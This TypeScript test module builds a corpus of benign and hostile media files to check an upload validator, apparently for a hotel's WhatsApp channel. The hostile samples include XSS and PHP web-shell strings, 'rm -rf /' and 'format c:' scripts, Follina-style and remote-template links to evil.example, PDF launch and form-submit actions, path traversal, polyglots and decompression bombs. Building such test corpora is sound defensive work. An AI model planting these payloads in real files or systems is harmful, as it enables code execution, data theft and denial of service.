import { readFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync, gunzipSync } from "node:zlib";
import sharp, { type Sharp } from "sharp";
import type { MediaDirection, MediaFlaw, MediaKind, MediaType } from "../../src/index.js";
import {
  box,
  changed,
  docx,
  docxParts,
  jpegSegment,
  objectStream,
  part,
  pdfOf,
  pngChunk,
  relation,
  sized,
  streamObject,
  withChunks,
  withSegments,
  zip,
} from "./builders.js";

/** A file, what somebody says that it is, and what it has to be found to be. */
export interface CorpusFile {
  readonly name: string;
  readonly bytes: Buffer;
  readonly kind: MediaKind;
  readonly direction?: MediaDirection;
  readonly declaredType: string | null;
  readonly fileName?: string;
  readonly expected:
    | { readonly verdict: "accepted"; readonly mimeType: MediaType }
    /** Null: for whatever reason. */
    | { readonly verdict: "refused" | "quarantined"; readonly reason: MediaFlaw | null };
}

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const POWERPOINT = "application/vnd.openxmlformats-officedocument.presentationml.presentation";

/** A file of this folder's, made by the encoder that `make.sh` names. */
export const fixture = (name: string): Buffer => readFileSync(join(import.meta.dirname, "fixtures", name));

/** The signature that every scanner knows, in two halves, so that none takes this file for it. Source: eicar.org, "Anti-Malware Testfile". */
export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

type Honest = readonly [name: string, kind: MediaKind, type: MediaType, bytes: Buffer];

/** Pictures of real encoders, made here. */
async function pictures(): Promise<readonly Honest[]> {
  const noise = {
    create: {
      width: 64,
      height: 48,
      channels: 3,
      background: "#fff",
      noise: { type: "gaussian", mean: 128, sigma: 40 },
    },
  } as const;
  const clear = {
    create: { width: 32, height: 32, channels: 4, background: { r: 9, g: 99, b: 199, alpha: 0.5 } },
  } as const;
  const exif = {
    IFD0: { Copyright: "Grand Hotel", Make: "Phone" },
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: "41/1 54/1 0/1" },
  };
  const film = fixture("ffmpeg.gif");
  const of = async (image: Sharp): Promise<Buffer> => image.toBuffer();
  return [
    ["a photo", "image", "image/jpeg", await of(sharp(noise).jpeg())],
    ["a progressive photo", "image", "image/jpeg", await of(sharp(noise).jpeg({ progressive: true }))],
    ["a photo that says where it was taken", "image", "image/jpeg", await of(sharp(noise).withExif(exif).jpeg())],
    ["a photo in grey", "image", "image/jpeg", await of(sharp(noise).greyscale().jpeg())],
    ["a photo in print colours", "image", "image/jpeg", await of(sharp(noise).toColourspace("cmyk").jpeg())],
    ["a photo with optimised scans", "image", "image/jpeg", await of(sharp(noise).jpeg({ mozjpeg: true }))],
    [
      "a photo of one pixel",
      "image",
      "image/jpeg",
      await of(
        sharp({
          create: { ...noise.create, noise: { type: "gaussian", mean: 1, sigma: 1 }, width: 1, height: 1 },
        }).jpeg(),
      ),
    ],
    ["a photo with a colour profile", "image", "image/jpeg", await of(sharp(noise).withIccProfile("p3").jpeg())],
    ["a screenshot", "image", "image/png", await of(sharp(noise).png())],
    ["a picture with holes", "image", "image/png", await of(sharp(clear).png())],
    ["a picture with a palette", "image", "image/png", await of(sharp(noise).png({ palette: true }))],
    ["an interlaced picture", "image", "image/png", await of(sharp(noise).png({ progressive: true }))],
    ["a grey picture", "image", "image/png", await of(sharp(noise).toColourspace("b-w").png())],
    ["a picture of 16 bits", "image", "image/png", await of(sharp(noise).toColourspace("rgb16").png())],
    [
      "a picture with a profile and EXIF",
      "image",
      "image/png",
      await of(sharp(noise).withExif(exif).withIccProfile("p3").png()),
    ],
    ["a web picture", "image", "image/webp", await of(sharp(noise).webp())],
    ["a web picture without loss", "image", "image/webp", await of(sharp(noise).webp({ lossless: true }))],
    ["a web picture with EXIF", "image", "image/webp", await of(sharp(noise).withExif(exif).webp())],
    ["a sticker", "sticker", "image/webp", await of(sharp(clear).webp())],
    ["a sticker that moves", "sticker", "image/webp", await of(sharp(film, { animated: true }).webp())],
    ["a picture of old", "document", "image/gif", await of(sharp(noise).gif())],
    ["a picture of old that moves", "document", "image/gif", await of(sharp(film, { animated: true }).gif())],
  ];
}

const kept = (name: string, kind: MediaKind, type: MediaType): Honest => [
  name,
  kind,
  type,
  name.endsWith(".gz") ? gunzipSync(fixture(name)) : fixture(name),
];

const KEPT: readonly Honest[] = [
  kept("ffmpeg.jpg", "image", "image/jpeg"),
  kept("ffmpeg.png", "image", "image/png"),
  kept("ffmpeg.apng", "image", "image/png"),
  kept("ffmpeg.webp", "sticker", "image/webp"),
  kept("ffmpeg.gif", "document", "image/gif"),
  kept("voice.ogg", "audio", "audio/ogg"),
  kept("stereo.ogg", "audio", "audio/ogg"),
  kept("opusenc.ogg", "audio", "audio/ogg"),
  kept("sound.aac", "audio", "audio/aac"),
  kept("sound.m4a", "audio", "audio/mp4"),
  kept("narrow.amr", "audio", "audio/amr"),
  kept("wide.amr", "audio", "audio/amr"),
  kept("bare.mp3", "audio", "audio/mpeg"),
  kept("tagged.mp3", "audio", "audio/mpeg"),
  kept("variable.mp3", "audio", "audio/mpeg"),
  kept("mpeg2.mp3", "audio", "audio/mpeg"),
  kept("film.mp4", "video", "video/mp4"),
  kept("silent.mp4", "video", "video/mp4"),
  kept("fragmented.mp4", "video", "video/mp4"),
  kept("mpeg4.mp4", "video", "video/mp4"),
  kept("film.3gp", "video", "video/3gpp"),
  kept("letter.pdf", "document", "application/pdf"),
  kept("bill.pdf", "document", "application/pdf"),
  kept("slides.pdf", "document", "application/pdf"),
  kept("ghostscript.pdf", "document", "application/pdf"),
  kept("linearised.pdf", "document", "application/pdf"),
  kept("packed.pdf", "document", "application/pdf"),
  kept("letter.docx", "document", WORD),
  kept("bill.xlsx", "document", EXCEL),
  kept("slides.pptx", "document", POWERPOINT),
  kept("letter.doc", "document", "application/msword"),
  kept("bill.xls", "document", "application/vnd.ms-excel"),
  kept("slides.ppt.gz", "document", "application/vnd.ms-powerpoint"),
];

const TEXTS: readonly Honest[] = [
  ["a text", "document", "text/plain", Buffer.from("Dear guests,\r\n\tbreakfast is from seven.\n")],
  ["a text in Japanese", "document", "text/plain", Buffer.from("ご予約ありがとうございます。\n")],
  ["a text in UTF-16", "document", "text/plain", Buffer.from("\ufeffSchönen Aufenthalt\r\n", "utf16le")],
  ["a text of an old machine", "document", "text/plain", Buffer.from("Sch\xf6nen Aufenthalt, 30 \x80\r\n", "latin1")],
  ["a text of one letter", "document", "text/plain", Buffer.from("k")],
  [
    "a text with less-than signs",
    "document",
    "text/plain",
    Buffer.from("<3 the pool; 1 < 2; write to <anna@grand.example>"),
  ],
];

const accepted = ([name, kind, type, bytes]: Honest): CorpusFile => ({
  name,
  bytes,
  kind,
  declaredType: type,
  expected: { verdict: "accepted", mimeType: type },
});

const refused = (
  name: string,
  bytes: Buffer,
  reason: MediaFlaw | null,
  { kind = "document", declaredType = null, ...more }: Partial<CorpusFile> = {},
): CorpusFile => ({ name, bytes, kind, declaredType, expected: { verdict: "refused", reason }, ...more });

const quarantined = (name: string, bytes: Buffer, reason: MediaFlaw, more: Partial<CorpusFile> = {}): CorpusFile => ({
  ...refused(name, bytes, reason, more),
  expected: { verdict: "quarantined", reason },
});

const PAGE = Buffer.from("<html><script>alert(document.cookie)</script></html>");
const JAR = zip([part("META-INF/MANIFEST.MF", "Main-Class: Evil\n"), part("Evil.class", "\xca\xfe\xba\xbe")]);

/** What is whole is whole; what is added to it, or taken from it, is noticed. */
function spoiled(honest: readonly Honest[]): readonly CorpusFile[] {
  return honest.flatMap(([name, kind, type, bytes]) => {
    const of = (what: string, spoilt: Buffer, reason: MediaFlaw | null) =>
      refused(`${name}, ${what}`, spoilt, reason, { kind, declaredType: type });
    // Nothing says where text ends.
    if (type === "text/plain") return [];
    return [
      of("and a page behind it", Buffer.concat([bytes, PAGE]), null),
      of("and a JAR behind it (GIFAR)", Buffer.concat([bytes, JAR]), null),
      of("and one byte more", Buffer.concat([bytes, Buffer.from([7])]), null),
      ...[0.02, 0.11, 0.33, 0.47, 0.71, 0.93].map((share) =>
        of(`of which ${share * 100} % came`, bytes.subarray(0, Math.floor(bytes.length * share)), null),
      ),
      // The line that a PDF ends may have no end.
      ...(type === "application/pdf" ? [] : [of("but for its last byte", bytes.subarray(0, -1), null)]),
    ];
  });
}

/** Whatever is said of a file besides what it is. */
function lies(honest: readonly Honest[]): readonly CorpusFile[] {
  return honest.flatMap(([name, , type, bytes]) =>
    ["image/jpeg", "application/pdf", "video/mp4", "text/plain", WORD]
      .filter((declared) => declared !== type)
      .map((declaredType) => refused(`${name} said to be ${declaredType}`, bytes, "type_differs", { declaredType })),
  );
}

function disguises(): readonly CorpusFile[] {
  const posing: readonly (readonly [string, Buffer | string, MediaFlaw])[] = [
    ["a page", "<!DOCTYPE html><script>alert(1)</script>", "markup"],
    ["a page behind blanks", "\n\n   \t<HTML><body onload=alert(1)>", "markup"],
    ["a page in UTF-16", Buffer.from("\ufeff<html><script>alert(1)</script>", "utf16le"), "markup"],
    ["a page with a byte order mark", "\ufeff<script>alert(1)</script>", "markup"],
    ["a comment and a page", "<!-- hi --><script>alert(1)</script>", "markup"],
    ["an SVG", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, "markup"],
    ["an SVG with a prolog", `<?xml version="1.0"?><svg onload="alert(1)"/>`, "markup"],
    ["XML", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`, "markup"],
    ["PHP", "<?php system($_GET['c']); ?>", "markup"],
    [
      "a program for Windows",
      Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", "latin1"), Buffer.alloc(200)]),
      "executable",
    ],
    [
      "a program for Linux",
      Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"), Buffer.alloc(200)]),
      "executable",
    ],
    [
      "a class of Java",
      Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), Buffer.alloc(100)]),
      "executable",
    ],
    ["a shell script", "#!/bin/sh\nrm -rf /\n", "executable"],
    ["a batch file", "@echo off\r\nformat c:\r\n", "executable"],
    ["a shortcut", "[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n", "executable"],
    ["bytes of nothing", Buffer.from(Array.from({ length: 400 }, (_, n) => (n * 151) % 251)), "type_unknown"],
  ];
  return posing.flatMap(([name, content, reason]) =>
    (["image/jpeg", "application/pdf", "text/plain"] as const).map((declaredType) =>
      refused(
        `${name} posing as ${declaredType}`,
        typeof content === "string" ? Buffer.from(content) : content,
        reason,
        {
          kind: declaredType === "image/jpeg" ? "image" : "document",
          declaredType,
        },
      ),
    ),
  );
}

function polyglots(jpeg: Buffer, png: Buffer, gif: Buffer): readonly CorpusFile[] {
  const mp4 = fixture("film.mp4");
  const script = "*/=alert('room service');/*";
  const scriptJpeg = Buffer.concat([
    Buffer.from("\xff\xd8\xff\xe0\x2f\x2aJFIF\0\x01\x01\0\0\x01\0\x01\0\0", "latin1"),
    Buffer.alloc(0x2f2a - 16),
    jpegSegment(0xfe, script),
    jpeg.subarray(4 + jpeg.readUInt16BE(4)),
  ]);
  const image = { kind: "image" } as const;
  return [
    refused("a JPEG that is JavaScript", scriptJpeg, "double_format", image),
    refused("a JPEG with a page in its comment", withSegments(jpeg, jpegSegment(0xfe, PAGE)), "double_format", image),
    refused(
      "a JPEG with PHP in its EXIF",
      withSegments(jpeg, jpegSegment(0xe1, "Exif\0\0<?php eval($_GET[1]) ?>")),
      "double_format",
      image,
    ),
    refused(
      "a JPEG with a page in UTF-16",
      withSegments(jpeg, jpegSegment(0xfe, Buffer.from("<script>alert(1)", "utf16le"))),
      "double_format",
      image,
    ),
    refused(
      "a JPEG with bytes in JFIF's place",
      withSegments(changed(jpeg, 4, Buffer.from([0, 20])), Buffer.alloc(0)),
      null,
      image,
    ),
    refused("a JPEG with a ZIP in its comment", withSegments(jpeg, jpegSegment(0xfe, JAR)), null, image),
    refused(
      "two JPEGs, of which the first does not tell of the second",
      Buffer.concat([jpeg, jpeg]),
      "trailing_data",
      image,
    ),
    refused(
      "a JPEG with a PDF in its first kilobyte",
      withSegments(jpeg, jpegSegment(0xfe, "%PDF-1.4\n1 0 obj")),
      "double_format",
      image,
    ),
    refused(
      "a PNG with a page in a text",
      withChunks(png, pngChunk("tEXt", Buffer.from("Comment\0<script>alert(1)</script>"))),
      "double_format",
      image,
    ),
    refused("a PNG with a page in a chunk of its own", withChunks(png, pngChunk("eViL", PAGE)), "double_format", image),
    refused(
      "a PNG with a wrong checksum",
      withChunks(png, pngChunk("tEXt", Buffer.from("Comment\0hi"), 7)),
      "malformed",
      image,
    ),
    refused(
      "a PNG with a ZIP in its last chunk",
      Buffer.concat([png.subarray(0, -12), pngChunk("zIPp", JAR), png.subarray(-12)]),
      "double_format",
      image,
    ),
    refused("a GIF that is JavaScript", changed(gif, 6, "/*"), "double_format"),
    refused(
      "a GIF with a page in its comment",
      Buffer.concat([gif.subarray(0, -1), Buffer.from([0x21, 0xfe, PAGE.length]), PAGE, Buffer.from([0, 0x3b])]),
      "double_format",
    ),
    refused("a film with a page in its empty space", Buffer.concat([mp4, box("free", PAGE)]), "double_format", {
      kind: "video",
    }),
    refused("a film with a JAR in its empty space", Buffer.concat([mp4, box("free", JAR)]), "double_format", {
      kind: "video",
    }),
    refused("a film with a box that nobody knows", Buffer.concat([mp4, box("evil", Buffer.alloc(20))]), "hidden_data", {
      kind: "video",
    }),
    refused("a PDF behind a page", pdfOf({ before: "<html><script>alert(1)</script>\n" }), null),
    refused("a PDF behind some bytes", pdfOf({ before: "GIF89a;" }), null),
    refused("a PDF behind a byte order mark", Buffer.concat([Buffer.from("\ufeff"), pdfOf()]), "hidden_data"),
    refused(
      "a PDF with a page in its comment",
      pdfOf({ header: "%PDF-1.7\n%<script>alert(1)</script>\n" }),
      "double_format",
    ),
    refused("a PDF with a page in its first stream", pdfOf({ objects: [streamObject("", PAGE)] }), "double_format"),
    refused("a PDF with something between its objects", pdfOf({ header: "%PDF-1.7\nPK stuff\n" }), "hidden_data"),
    refused("a docx behind a picture", zip(docxParts(), { before: jpeg }), null),
    refused(
      "a docx with something between its parts",
      zip([...docxParts(), part("a.xml", "x", { gap: PAGE })]),
      "hidden_data",
    ),
    refused("a docx with a comment", zip(docxParts(), { comment: "hello" }), "trailing_data"),
    refused(
      "a docx of which two parts are one",
      zip([...docxParts(), part("a.xml", "x", { says: { offset: 0 } })]),
      null,
    ),
    refused("a docx with a part that is two", zip([...docxParts(), ...docxParts().slice(2, 3)]), "malformed"),
    refused("a docx with a part outside of it", zip([...docxParts(), part("../../etc/passwd")]), "malformed"),
    refused(
      "a docx that declares something",
      zip(
        docxParts({ types: "" }).map((one) =>
          one.name.startsWith("[") ? part(one.name, `<!DOCTYPE a [<!ENTITY b "c">]>${one.content.toString()}`) : one,
        ),
      ),
      "markup",
    ),
    refused(
      "a docx that begins as a book",
      zip([part("mimetype", "application/epub+zip", { stored: true }), ...docxParts()]),
      "type_differs",
    ),
    refused(
      "a docx that begins as a program in Java",
      zip([part("META-INF/MANIFEST.MF", "Main-Class: Evil\n"), ...docxParts()]),
      "type_differs",
    ),
    refused("a ZIP", zip([part("a.txt")]), "type_not_allowed"),
    refused("a JAR", JAR, null),
    refused(
      "an OpenDocument",
      zip([part("mimetype", "application/vnd.oasis.opendocument.text", { stored: true }), part("content.xml")]),
      "type_not_allowed",
    ),
    refused("a sound of another codec", fixture("vorbis.ogg"), "type_not_allowed", { kind: "audio" }),
    refused("a film of QuickTime", fixture("film.mov"), "type_not_allowed", { kind: "video" }),
    refused("a film of the web", fixture("film.webm"), "type_not_allowed", { kind: "video" }),
    refused("a rich text", Buffer.from("{\\rtf1\\ansi Hello}"), "type_not_allowed"),
    refused("a picture as a sound", jpeg, "type_not_allowed", { kind: "audio" }),
    refused("a PDF as a picture", fixture("letter.pdf"), "type_not_allowed", image),
  ];
}

/** What is what it says, and does something when it is opened. */
function active(): readonly CorpusFile[] {
  const vba = part("word/vbaProject.bin", "\xd0\xcf\x11\xe0");
  const doc = fixture("letter.doc");
  /** The document with a part of another name. */
  const named = (to: string): Buffer => {
    const at = doc.indexOf(Buffer.from("1Table", "utf16le"));
    const name = Buffer.alloc(64);
    name.write(to, "utf16le");
    return changed(changed(doc, at, name), at + 64, Buffer.from([2 * to.length + 2, 0]));
  };
  const xls = fixture("bill.xls");
  // Record 0085 of 6 bytes and a name; the byte behind its position and state says what kind of sheet it is.
  const sheet = xls.indexOf(Buffer.from([0x85, 0x00]));
  return [
    quarantined(
      "a PDF with a script",
      pdfOf({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" }),
      "script",
    ),
    quarantined(
      "a PDF with a script in an escaped name",
      pdfOf({ catalog: "/OpenAction << /S /J#61vaScript /J#53 (1) >>" }),
      "script",
    ),
    quarantined(
      "a PDF with a script that nothing names at the top",
      pdfOf({ objects: ["<< /S /JavaScript /JS 5 0 R >>", streamObject("", Buffer.from("app.alert(1)"))] }),
      "script",
    ),
    quarantined(
      "a PDF with a script in packed objects",
      pdfOf({ objects: [objectStream("<< /S /JavaScript /JS (1) >>")] }),
      "script",
    ),
    quarantined(
      "a PDF with a script in packed objects that do not say so",
      pdfOf({ objects: [objectStream("<< /JS (1) >>", "/N 1 /First 4")] }),
      "script",
    ),
    quarantined(
      "a PDF with objects packed in another way",
      pdfOf({
        objects: [
          streamObject("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", Buffer.from("00>")),
        ],
      }),
      "unreadable_part",
    ),
    quarantined(
      "a PDF that starts a program",
      pdfOf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
      "script",
    ),
    quarantined("a PDF with a form that is code", pdfOf({ catalog: "/AcroForm << /XFA 5 0 R >>" }), "script"),
    quarantined(
      "a PDF that sends a form",
      pdfOf({ objects: ["<< /S /SubmitForm /F (http://evil.example) >>"] }),
      "remote_content",
    ),
    quarantined(
      "a PDF that opens another",
      pdfOf({ objects: ["<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>"] }),
      "remote_content",
    ),
    quarantined("a PDF with a file in it", fixture("attachment.pdf"), "embedded_file"),
    quarantined("an encrypted PDF", fixture("encrypted.pdf"), "encrypted"),
    quarantined("a docx with macros", docx({ parts: [vba] }), "macros"),
    quarantined(
      "a docx with macros of another name",
      docx({
        parts: [part("word/x.bin")],
        relations: relation("vbaProject", "x.bin", false).replace(
          /http[^"]*relationships/,
          "http://schemas.microsoft.com/office/2006/relationships",
        ),
      }),
      "macros",
    ),
    quarantined(
      "a document with macros said to be",
      docx({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml", parts: [vba] }),
      "macros",
    ),
    quarantined(
      "a document with macros, spelt in numbers",
      docx({ types: `<Override PartName="/a" ContentType="application/vnd.ms-office.vba&#80;roject"/>` }),
      "macros",
    ),
    quarantined("a docx with macros of 1992", docx({ parts: [part("xl/macrosheets/sheet1.xml")] }), "macros"),
    quarantined(
      "a docx whose template lies elsewhere",
      docx({ relations: relation("attachedTemplate", "https://evil.example/a.dotm") }),
      "remote_content",
    ),
    quarantined(
      "a docx whose template lies elsewhere, with a sign in its name",
      docx({ relations: relation("attachedTemplate", "https://evil.example/?a>b") }),
      "remote_content",
    ),
    quarantined(
      "a docx that loads an object (Follina)",
      docx({ relations: relation("oleObject", "mhtml:http://evil.example/a!x-usc") }),
      "remote_content",
    ),
    quarantined("a docx with an object", docx({ parts: [part("word/embeddings/oleObject1.bin")] }), "embedded_file"),
    quarantined("a docx with a program", docx({ parts: [part("word/media/image1.exe")] }), "embedded_file"),
    quarantined(
      "a docx with a page in it",
      docx({ relations: relation("aFChunk", "/word/a.mht", false) }),
      "embedded_file",
    ),
    quarantined("a docx with a control", docx({ parts: [part("word/activeX/activeX1.xml")] }), "embedded_file"),
    quarantined(
      "a docx with a part that is encrypted",
      zip([...docxParts(), part("a.xml", "x", { says: { flags: 1 } })]),
      "encrypted",
    ),
    quarantined("a doc with macros", named("Macros"), "macros"),
    quarantined("a doc with an object", named("Package"), "embedded_file"),
    quarantined("a document that is encrypted whole", named("EncryptedPackage"), "encrypted"),
    quarantined("an xls with macros of 1992", changed(xls, sheet + 9, Buffer.from([1])), "macros"),
    quarantined("a picture that is called a program", fixture("ffmpeg.jpg"), "name_misleads", {
      kind: "image",
      fileName: "passport.jpg.exe",
    }),
    quarantined("a PDF that is called a program backwards", fixture("letter.pdf"), "name_misleads", {
      fileName: "invoice\u202efdp.exe",
    }),
    quarantined("a text that is called a page", Buffer.from("hello"), "name_misleads", { fileName: "hello.html" }),
  ];
}

function bombs(jpeg: Buffer, png: Buffer, gif: Buffer, webp: Buffer): readonly CorpusFile[] {
  const zeros = Buffer.alloc(30_000_000);
  const image = { kind: "image" } as const;
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  // The frame of a picture in a GIF, again and again.
  const manyFrames = Buffer.concat([
    changed(gif.subarray(0, -1), 6, Buffer.from([0x10, 0x27, 0x10, 0x27])),
    ...Array.from({ length: 40 }, () => Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])),
    Buffer.from([0x3b]),
  ]);
  return [
    refused("a PNG of 50,000 by 50,000", sized(png, 50_000, 50_000), "too_many_pixels", image),
    refused("a PNG of two thousand million by one", sized(png, 2_000_000_000, 1), "too_many_pixels", image),
    refused(
      "a JPEG of 65,500 by 65,500",
      changed(jpeg, frame + 5, Buffer.from([0xff, 0xdc, 0xff, 0xdc])),
      "too_many_pixels",
      image,
    ),
    refused("a GIF of 60,000 by 60,000", changed(gif, 6, Buffer.from([0x60, 0xea, 0x60, 0xea])), "too_many_pixels"),
    refused("a GIF of forty large frames", manyFrames, "too_many_pixels"),
    refused(
      "a WebP of 16,383 by 16,383",
      changed(webp, 26, Buffer.from([0xff, 0x3f, 0xff, 0x3f])),
      "too_many_pixels",
      image,
    ),
    refused(
      "a PNG with a text that unpacks to 30 MB",
      withChunks(png, pngChunk("zTXt", Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(zeros)]))),
      "expands",
      image,
    ),
    refused(
      "a docx that unpacks to a thousand times its size",
      docx({ parts: [part("word/media/a.xml", zeros)] }),
      "expands",
    ),
    refused(
      "a docx that says that it unpacks to 4 GB",
      docx({ parts: [part("a.xml", "x", { says: { size: 4_000_000_000 } })] }),
      "expands",
    ),
    refused(
      "a docx that unpacks to more than it says",
      docx({ parts: [part("a.xml", zeros, { says: { size: 1_000 } })] }),
      null,
    ),
    refused(
      "a docx with a list of 30 MB",
      zip([
        part(
          "[Content_Types].xml",
          Buffer.concat([Buffer.from(zeros.subarray(0, 6_000_000)), Buffer.from("<")]).fill(32),
        ),
        ...docxParts().slice(1),
      ]),
      null,
    ),
    refused(
      "a PDF whose packed objects unpack to 30 MB",
      pdfOf({ objects: [objectStream(" ".repeat(30_000_000))] }),
      "expands",
    ),
    refused("a docx with a wrong checksum", docx({ parts: [part("a.xml", "x", { says: { crc: 7 } })] }), "malformed"),
    refused("a picture of no byte", Buffer.alloc(0), "empty", image),
    refused("a photo of more than 5 MB", Buffer.concat([jpeg, Buffer.alloc(5_000_000)]), "too_large", image),
    refused("a sticker of more than 100 KB", stickerOf(webp, 120_000), "too_large", { kind: "sticker" }),
  ];
}

/** A WebP with so many bytes of EXIF. */
function stickerOf(webp: Buffer, bytes: number): Buffer {
  const exif = Buffer.concat([Buffer.from("EXIF"), Buffer.from(Uint32Array.of(bytes).buffer), Buffer.alloc(bytes)]);
  const canvas = Buffer.alloc(18);
  canvas.write("VP8X");
  canvas.writeUInt32LE(10, 4);
  canvas.writeUInt8(8, 8);
  canvas.writeUIntLE(webp.readUInt16LE(26) - 1, 12, 3);
  canvas.writeUIntLE(webp.readUInt16LE(28) - 1, 15, 3);
  const body = Buffer.concat([Buffer.from("WEBP"), canvas, webp.subarray(12), exif]);
  const head = Buffer.from("RIFF\0\0\0\0");
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

/** Forms that guests may send and WhatsApp does not take from a hotel. */
function outbound(grey: Buffer, jpeg: Buffer): readonly CorpusFile[] {
  const out = { direction: "outbound" } as const;
  return [
    { ...accepted(kept("voice.ogg", "audio", "audio/ogg")), ...out, name: "a voice note that staff send" },
    { ...accepted(kept("film.mp4", "video", "video/mp4")), ...out, name: "a film that staff send" },
    { ...accepted(kept("letter.pdf", "document", "application/pdf")), ...out, name: "an invoice that staff send" },
    { ...accepted(["a photo that staff send", "image", "image/jpeg", jpeg]), ...out },
    refused("a grey PNG that staff send", grey, "not_for_whatsapp", { kind: "image", ...out }),
    refused("a stereo voice note that staff send", fixture("stereo.ogg"), "not_for_whatsapp", {
      kind: "audio",
      ...out,
    }),
    refused("an old film that staff send", fixture("mpeg4.mp4"), "not_for_whatsapp", { kind: "video", ...out }),
    refused("a photo that staff send as a document", jpeg, "type_not_allowed", { kind: "document", ...out }),
  ];
}

/** A photo and what a phone keeps beside it, which the first tells of. */
const twoPictures = (jpeg: Buffer): Buffer =>
  Buffer.concat([withSegments(jpeg, jpegSegment(0xe2, "MPF\0II*\0\x08\0\0\0\0\0\0\0\0\0")), jpeg]);

/** Every file, made anew: about a second. */
export async function corpus(): Promise<readonly CorpusFile[]> {
  const drawn = await pictures();
  const honest = [...drawn, ...KEPT, ...TEXTS];
  const named = (name: string): Buffer => honest.find(([one]) => one === name)![3];
  const [jpeg, png, webp] = [named("a photo"), named("a screenshot"), named("a web picture")];
  const gif = named("a picture of old");
  const typical = [
    ...drawn.filter(([name]) => /^a (photo|screenshot|web picture|picture of old|sticker that moves)$/.test(name)),
    ...KEPT,
  ];
  return [
    ...honest.map(accepted),
    // Of which nobody said what it is.
    ...honest.map((one) => ({
      ...accepted(one),
      name: `${one[0]}, of which nobody says what it is`,
      declaredType: null,
    })),
    accepted(["a photo with a second one", "image", "image/jpeg", twoPictures(jpeg)]),
    accepted(["a text that a scanner knows (EICAR)", "document", "text/plain", Buffer.from(EICAR)]),
    accepted([
      "a docx made by hand",
      "document",
      WORD,
      docx({ relations: relation("hyperlink", "https://grand.example") }),
    ]),
    accepted([
      "a PDF made by hand",
      "document",
      "application/pdf",
      pdfOf({ objects: ["<< /S /URI /URI (https://grand.example) >>"] }),
    ]),
    ...spoiled(typical),
    ...lies(typical),
    ...disguises(),
    refused("EICAR posing as a photo", Buffer.from(EICAR), null, { kind: "image", declaredType: "image/jpeg" }),
    ...polyglots(jpeg, png, gif),
    ...active(),
    ...bombs(jpeg, png, gif, webp),
    ...outbound(named("a grey picture"), jpeg),
  ];
}
